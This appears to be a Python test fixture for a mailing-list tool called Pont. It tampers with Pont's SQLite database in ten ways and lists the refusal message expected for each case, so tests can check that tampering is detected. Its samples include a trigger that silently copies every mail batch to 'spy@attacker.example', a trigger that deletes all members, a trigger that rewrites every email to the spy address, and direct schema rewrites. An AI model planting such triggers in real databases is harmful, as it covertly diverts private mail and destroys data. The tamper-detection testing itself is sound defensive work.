"""Pont databases changed behind Pont's back, as an attacker (or a careless tool) would: each
function changes the database file at path in place with plain SQL, as anyone could."""

from __future__ import annotations

import sqlite3
from collections.abc import Callable
from pathlib import Path

SPY = "spy@attacker.example"

# Each adds a hidden recipient to every batch of every post: the envelope carries it, the
# post's To: and Pont's lists never show it.
HIDDEN_RECIPIENT_TRIGGER = f"""
    CREATE TRIGGER batch_recipients_audit AFTER INSERT ON batch_recipients
    WHEN new.email <> '{SPY}'
    BEGIN
        INSERT OR IGNORE INTO batch_recipients (batch_id, email) VALUES (new.batch_id, '{SPY}');
    END
"""


def _change(path: Path, *statements: str, writable_schema: bool = False) -> None:
    connection = sqlite3.connect(path, isolation_level=None)
    try:
        if writable_schema:
            connection.execute("PRAGMA writable_schema = ON")
        for statement in statements:
            connection.execute(statement)
        if writable_schema:
            connection.execute("PRAGMA writable_schema = OFF")
    finally:
        connection.close()


def extra_trigger(path: Path) -> None:
    _change(path, HIDDEN_RECIPIENT_TRIGGER)


def dropped_archive_table(path: Path) -> None:
    _change(path, "DROP TABLE message_groups")


def extra_view(path: Path) -> None:
    _change(path, "CREATE VIEW everyone AS SELECT email FROM members")


def extra_index(path: Path) -> None:
    _change(path, "CREATE INDEX members_by_name ON members(name)")


def changed_column(path: Path) -> None:
    """members.status loses its CHECK: any word becomes a status, and 'active' no longer
    means what Pont's queries think."""
    _change(
        path,
        "UPDATE sqlite_master SET sql = replace(sql,"
        " 'CHECK (status IN (''active'', ''paused'', ''left'', ''bouncing''))', '')"
        " WHERE name = 'members'",
        writable_schema=True,
    )


def added_column(path: Path) -> None:
    _change(path, "ALTER TABLE members ADD COLUMN forward_to TEXT NOT NULL DEFAULT ''")


def replaced_pont_trigger(path: Path) -> None:
    """Pont's own FTS trigger, under its own name, doing something else too."""
    _change(
        path,
        "DROP TRIGGER messages_fts_insert",
        "CREATE TRIGGER messages_fts_insert AFTER INSERT ON messages BEGIN"
        "  INSERT INTO messages_fts(rowid, subject, body_text, sender_name, sender_email)"
        "  VALUES (new.id, new.subject, new.body_text, new.sender_name, new.sender_email);"
        "  DELETE FROM members;"
        " END",
    )


def dropped_fts_shadow_table(path: Path) -> None:
    _change(path, "DROP TABLE messages_fts_docsize")


def changed_fts_shadow_table(path: Path) -> None:
    _change(
        path,
        "UPDATE sqlite_master SET sql = replace(sql, 'block BLOB', 'block BLOB, extra')"
        " WHERE name = 'messages_fts_data'",
        writable_schema=True,
    )


def trigger_on_the_migrations_record(path: Path) -> None:
    _change(
        path,
        "CREATE TRIGGER quiet AFTER INSERT ON _sqlite_migrations BEGIN"
        f"  UPDATE members SET email = '{SPY}';"
        " END",
    )


HOSTILE: dict[str, Callable[[Path], None]] = {
    "extra-trigger": extra_trigger,
    "dropped-table": dropped_archive_table,
    "extra-view": extra_view,
    "extra-index": extra_index,
    "changed-column": changed_column,
    "added-column": added_column,
    "replaced-pont-trigger": replaced_pont_trigger,
    "dropped-fts-shadow": dropped_fts_shadow_table,
    "changed-fts-shadow": changed_fts_shadow_table,
    "migrations-trigger": trigger_on_the_migrations_record,
}
# What each sentence says, and the name it gives.
REFUSAL = {
    "extra-trigger": ("holds something Pont never made", "batch_recipients_audit"),
    "dropped-table": ("lacks part of Pont's data", "message_groups"),
    "extra-view": ("holds something Pont never made", "everyone"),
    "extra-index": ("holds something Pont never made", "members_by_name"),
    "changed-column": ("has part of Pont's data changed outside Pont", "members"),
    "added-column": ("has part of Pont's data changed outside Pont", "members"),
    "replaced-pont-trigger": (
        "has part of Pont's data changed outside Pont",
        "messages_fts_insert",
    ),
    "dropped-fts-shadow": ("lacks part of Pont's data", "messages_fts_docsize"),
    "changed-fts-shadow": ("has part of Pont's data changed outside Pont", "messages_fts_data"),
    "migrations-trigger": ("holds something Pont never made", "quiet"),
}
